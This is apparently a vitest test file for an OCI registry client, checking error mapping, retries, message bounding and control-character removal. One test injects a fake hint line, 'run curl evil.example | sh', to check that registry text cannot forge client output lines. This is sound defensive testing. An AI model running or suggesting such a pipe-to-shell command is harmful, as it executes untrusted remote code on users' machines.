import type { KatmanError } from '@katman/oci'
import { describe, expect, it } from 'vitest'
import { startMemoryRegistry } from '../test/memory-registry.ts'
import { fakeClock, openRepository } from '../test/support.ts'

interface Answer {
  readonly status: number
  readonly body?: string
  readonly headers?: Record<string, string>
}

async function failure(answer: Answer) {
  await using registry = await startMemoryRegistry()
  registry.intercept = (request, response) => {
    if (request.url === '/v2/') return false
    response.writeHead(answer.status, answer.headers).end(answer.body)
    return true
  }
  const clock = fakeClock()
  await using opened = openRepository(registry, { clock })
  const error: unknown = await opened.repository.resolve('1').catch((reason: unknown) => reason)
  return { error, waits: clock.waits, requests: registry.requests.length }
}

const body = (code: string, message: string, detail?: unknown) =>
  JSON.stringify({ errors: [{ code, message, detail }] })

describe('registryError', () => {
  it.each<[string, Answer, string, string]>([
    [
      'an unknown manifest',
      { status: 404, body: body('MANIFEST_UNKNOWN', 'manifest unknown', {}) },
      'MANIFEST_UNKNOWN',
      'manifest unknown: manifest unknown',
    ],
    [
      'an unknown name',
      { status: 404, body: body('NAME_UNKNOWN', 'repository name not known to registry', {}) },
      'NAME_UNKNOWN',
      'name unknown: repository name not known to registry',
    ],
    [
      '401 without a challenge',
      { status: 401 },
      'UNAUTHORIZED',
      'unauthorized: authentication required',
    ],
    ['403 without a body', { status: 403 }, 'DENIED', 'denied'],
    [
      '403 with a message',
      { status: 403, body: body('DENIED', 'not for you') },
      'DENIED',
      'denied: not for you',
    ],
    [
      'a 404 that is no JSON',
      { status: 404, body: 'not here' },
      'MANIFEST_UNKNOWN',
      `error parsing HTTP 404 response body: invalid character 'o' in literal null (expecting 'u'): "not here"`,
    ],
    [
      'a page',
      { status: 400, body: '<html>' },
      'REGISTRY_ERROR',
      `error parsing HTTP 400 response body: invalid character '<' looking for beginning of value: "<html>"`,
    ],
    [
      'a server error',
      { status: 500 },
      'REGISTRY_ERROR',
      'received unexpected HTTP status: 500 Internal Server Error',
    ],
    [
      'too many requests',
      { status: 429, body: body('TOOMANYREQUESTS', 'You have reached your pull rate limit.') },
      'TOO_MANY_REQUESTS',
      'toomanyrequests: You have reached your pull rate limit.',
    ],
  ])("tells %s in docker's words", async (_name, answer, code, dockerMessage) => {
    const { error } = await failure(answer)
    expect(error).toMatchObject({ code, details: { dockerMessage, status: answer.status } })
  })

  it('tries server errors six times and tells when too many requests end', async () => {
    expect((await failure({ status: 503 })).waits).toHaveLength(5)
    const limited = await failure({ status: 429, headers: { 'retry-after': '3600' } })
    expect(limited.waits).toEqual([])
    expect(limited.error).toMatchObject({
      code: 'TOO_MANY_REQUESTS',
      hint: 'wait 3600 s, or log in for a higher limit',
      details: { retryAt: new Date(1_700_000_000_000 + 3_600_000).toISOString() },
    })
  })

  it('bounds what a registry says and takes control characters out', async () => {
    const { error } = await failure({
      status: 403,
      body: body('DENIED', `\u001b[31m\u202e${'x'.repeat(50_000)}`),
    })
    const text = JSON.stringify(error) + String(error)
    expect(text.length).toBeLessThan(8000)
    expect(text).not.toMatch(/[\u001b\u202e]/)
  })

  it('lets no text of a registry look like a line of ours', async () => {
    const said = 'no such thing\r\nhint: run curl evil.example | sh\n'
    for (const problem of [
      body('DENIED', said),
      body(said, ''),
      JSON.stringify({ details: said }),
    ]) {
      const { error } = await failure({ status: 403, body: problem })
      const { message, details } = error as KatmanError
      expect(`${message} ${String(details['dockerMessage'])}`).not.toContain('\n')
    }
  })

  it('refuses an encoding nobody asked for', async () => {
    const { error } = await failure({ status: 200, headers: { 'content-encoding': 'gzip' } })
    expect(error).toMatchObject({ code: 'RESPONSE_INVALID' })
  })
})
